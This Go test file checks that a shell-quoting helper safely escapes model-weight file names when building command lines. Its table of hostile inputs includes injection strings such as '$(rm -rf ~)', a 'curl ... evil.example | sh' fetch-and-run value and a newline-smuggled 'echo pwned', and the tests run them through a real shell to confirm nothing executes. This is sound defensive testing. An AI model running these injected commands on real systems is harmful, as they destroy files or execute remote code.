package state

import (
	"os/exec"
	"strings"
	"testing"
)

var hostile = []string{
	"",
	"plain.safetensors",
	"weights/resnet20.safetensors",
	"my weights.safetensors",
	"$(rm -rf ~).safetensors",
	"x$(curl -s https://evil.example/x | sh).safetensors",
	"`id`.safetensors",
	"it's.safetensors",
	`"double" quotes`,
	"'",
	"''",
	`back\slash`,
	"line\nbreak; echo pwned",
	"tab\there",
	"semi;colon & amp | pipe > out < in",
	"*glob?[a]",
	"~/home",
	"${HOME}",
	"-leading-dash",
	"ünïcödé ✓",
}

func TestShellQuoteTable(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", "''"},
		{"w.safetensors", "w.safetensors"},
		{"--ratio", "--ratio"},
		{"a b", "'a b'"},
		{"$(rm -rf ~).safetensors", "'$(rm -rf ~).safetensors'"},
		{"`id`", "'`id`'"},
		{"it's", `'it'\''s'`},
		{`"q"`, `'"q"'`},
		{"a\nb", "'a\nb'"},
		{"${HOME}", "'${HOME}'"},
		{"~", "'~'"},
	} {
		if got := ShellQuote(tc.in); got != tc.want {
			t.Errorf("ShellQuote(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestShellQuoteRoundTrip hands ShellJoin's line to a real POSIX shell, which must split it back
// into exactly the arguments (printf prints each between markers) and run nothing else.
func TestShellQuoteRoundTrip(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	dir := t.TempDir()
	for _, a := range hostile {
		line := "printf '<%s>\\n' " + ShellJoin(a, "next")
		cmd := exec.Command(sh, "-c", line)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Errorf("%q: sh: %v: %s", a, err, out)
			continue
		}
		if want := "<" + a + ">\n<next>\n"; string(out) != want {
			t.Errorf("%q: the shell split %s into %q, want %q", a, line, out, want)
		}
	}
}

func TestCLIQuotesWeights(t *testing.T) {
	s := Default()
	for _, w := range hostile[1:] {
		line := s.CLI(w)
		if !strings.HasSuffix(line, " --weights "+ShellQuote(w)) {
			t.Errorf("CLI(%q) = %q", w, line)
		}
	}
}
